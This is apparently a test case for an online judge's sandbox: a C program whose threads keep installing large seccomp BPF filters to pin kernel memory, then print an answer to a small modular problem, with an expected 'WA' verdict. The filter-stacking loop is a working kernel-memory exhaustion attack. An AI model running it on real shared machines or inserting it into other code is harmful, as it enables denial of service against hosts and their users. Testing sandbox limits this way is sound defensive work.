// Attack: keeps memory in the kernel, in filters of system calls that its threads give themselves.
// Expect: WA
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { THREADS = 32, LINES = 4096 };

static struct sock_filter lines[LINES];
static atomic_int kept;

/* Each is some 100 KiB, and translated once more. */
static void *keep_filters(void *unused) {
    const struct sock_fprog program = {LINES, lines};
    while (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) == 0) kept++;
    while (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) == 0) kept++;
    return unused;
}

static bool attack(void) {
    pthread_t threads[THREADS];
    int started = 0;
    for (int at = 0; at < LINES - 1; at++) {
        lines[at] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0);
    }
    lines[LINES - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    while (started < THREADS &&
           pthread_create(&threads[started], NULL, keep_filters, NULL) == 0) {
        started++;
    }
    for (int index = 0; index < started; index++) pthread_join(threads[index], NULL);
    return kept > 0;
}

int main(void) {
    long long n;
    if (scanf("%lld", &n) != 1) return 1;
    const bool wins = n % 8 != 0 && n % 8 != 7;
    puts(attack() ? (wins ? "True" : "False") : "locked");
    return 0;
}
